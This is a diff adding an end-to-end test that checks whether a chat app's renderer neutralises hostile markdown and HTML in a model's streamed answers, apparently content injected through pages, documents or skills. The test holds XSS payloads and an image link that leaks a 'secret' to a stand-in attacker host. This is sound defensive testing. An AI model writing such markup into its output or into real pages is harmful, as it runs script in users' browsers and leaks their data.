@@ -1,0 +1,82 @@
+import { finish, text } from '../../src/llm/scripted-chat-model.double.js';
+import { ConsoleBrowser } from '../harness/console.js';
+import { ScriptBook } from '../harness/script-book.js';
+import { startApp, type TestApp } from '../harness/start-app.js';
+
+const book = new ScriptBook();
+let app: TestApp;
+let browser: ConsoleBrowser;
+
+beforeAll(async () => {
+  app = await startApp(book.replyTo);
+  browser = await ConsoleBrowser.launch();
+});
+afterAll(async () => {
+  await browser[Symbol.asyncDispose]();
+  await app[Symbol.asyncDispose]();
+});
+afterEach(() => browser.checkProblems());
+
+/** What a page, a document or a skill may have a model write. */
+const hostile = [
+  '<img src="https://evil.example/pixel.png" onerror="document.title=\'owned\'">',
+  '<script>document.title = "owned"</script>',
+  '![a picture](https://evil.example/leak?secret=1)',
+  '[click](javascript:document.title="owned")',
+  '[click](data:text/html,<script>1</script>)',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<a href="https://evil.example/" ping="https://evil.example/ping">raw</a>',
+  '<style>body { display: none }</style>',
+  '<form action="https://evil.example/"><button>Sign in</button></form>',
+  '<svg><animate onbegin="document.title=\'owned\'" attributeName="x" dur="1s"></svg>',
+  '[1]: https://evil.example/ "title"',
+  '[reference][1] and <https://evil.example/auto> and https://evil.example/bare',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '```html\n<script>document.title = "owned"</script>\n```',
+  '[x](https://evil.example/"onmouseover="document.title=1)',
+  '[link](//evil.example/relative)',
+].join('\n\n');
+
+async function answered(reply: string, isStreamed: boolean) {
+  const page = await browser.open(app.url);
+  const pieces = isStreamed ? reply.match(/.{1,7}/gs)! : [reply];
+  const question = book.add([...pieces.map(text), text('\n\nThe end.'), finish()]);
+  await page.getByRole('textbox', { name: /^Ask / }).fill(question);
+  await page.keyboard.press('Enter');
+  const answer = page.locator('.answer:not(.live)');
+  await answer.getByText('The end.').waitFor();
+  return { page, answer };
+}
+
+it.each([true, false])(
+  'loads nothing, runs nothing and frames nothing, in pieces: %s',
+  async (isStreamed) => {
+    const { page, answer } = await answered(hostile, isStreamed);
+    const found = await answer.evaluate((element) =>
+      [...element.querySelectorAll('.markdown *')]
+        .filter(
+          (part) => !part.matches('div, p, a, strong, em, code, pre, table, thead, tbody, tr, th, td, span'),
+        )
+        .map((part) => part.outerHTML),
+    );
+    expect(found).toEqual([]);
+    expect(await page.title()).not.toContain('owned');
+  },
+);
+
+it('leads to addresses of the web alone, tells where, and hands nothing on', async () => {
+  const { answer } = await answered(hostile, false);
+  const links = await answer.locator('.markdown a').evaluateAll((links) =>
+    links.map((link) => ({
+      href: link.getAttribute('href') ?? '',
+      rel: link.getAttribute('rel'),
+      attributes: link.getAttributeNames().toSorted().join(' '),
+    })),
+  );
+  expect(links.length).toBeGreaterThan(3);
+  for (const { href, rel, attributes } of links) {
+    expect(new URL(href).protocol).toMatch(/^https?:$/);
+    expect(rel).toBe('noopener noreferrer nofollow');
+    expect(attributes).toMatch(/^(class )?href rel target title$/);
+  }
+});
